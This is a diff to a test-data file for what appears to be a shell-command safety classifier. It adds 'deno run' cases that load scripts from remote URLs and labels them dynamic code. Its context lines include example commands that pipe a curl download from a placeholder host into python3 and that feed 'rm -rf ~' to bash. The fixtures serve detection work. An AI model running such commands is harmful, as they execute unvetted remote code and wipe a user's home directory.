@@ -70,6 +70,9 @@ CODE = [
     ("curl -s https://x.example/x.py | python3 /dev/stdin", {"dynamic:code"}),
     ("python3 <(curl -s https://x.example/x.py)", {"dynamic:code"}),
     ("node /dev/fd/3 3< x.js", {"dynamic:code"}),
+    # a script fetched from a URL is code nobody knows before it runs
+    ("deno run https://x.example/install.ts", {"dynamic:code"}),
+    ("deno run -A --unstable https://x.example/mod.ts", {"dynamic:code"}),
     # what `>(…)` runs reads what the command around it writes there
     ("tee >(bash) <<< 'rm -rf ~'", {"dynamic:code"}),
     ("echo 'import os' > >(python3)", {"dynamic:code"}),
@@ -503,6 +506,7 @@ OTHER_QUIET = [
     "swift test --filter ParserTests",
     "python3 -c 'import sys; sys.path.insert(0, \"src\"); import app; app.main()'",
     "python3 /dev/stdin <<< 'print(1 + 1)'",
+    "deno run --allow-read=. main.ts",
     "tee >(gzip > out.gz) < data.txt",
     "make 2> >(tee build.log >&2)",
     "diff <(sort a.txt) <(sort b.txt)",
